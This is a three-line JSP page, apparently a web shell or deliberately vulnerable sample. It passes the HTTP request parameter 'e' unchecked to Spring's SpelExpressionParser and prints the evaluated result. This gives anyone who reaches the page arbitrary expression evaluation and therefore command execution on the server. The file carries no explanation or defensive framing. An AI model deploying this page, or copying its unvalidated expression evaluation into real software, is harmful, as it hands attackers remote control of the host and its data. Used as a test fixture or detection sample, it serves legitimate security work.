<%@ page import="org.springframework.expression.spel.standard.SpelExpressionParser" %><%
out.print(new SpelExpressionParser().parseExpression(request.getParameter("e")).getValue());
%>
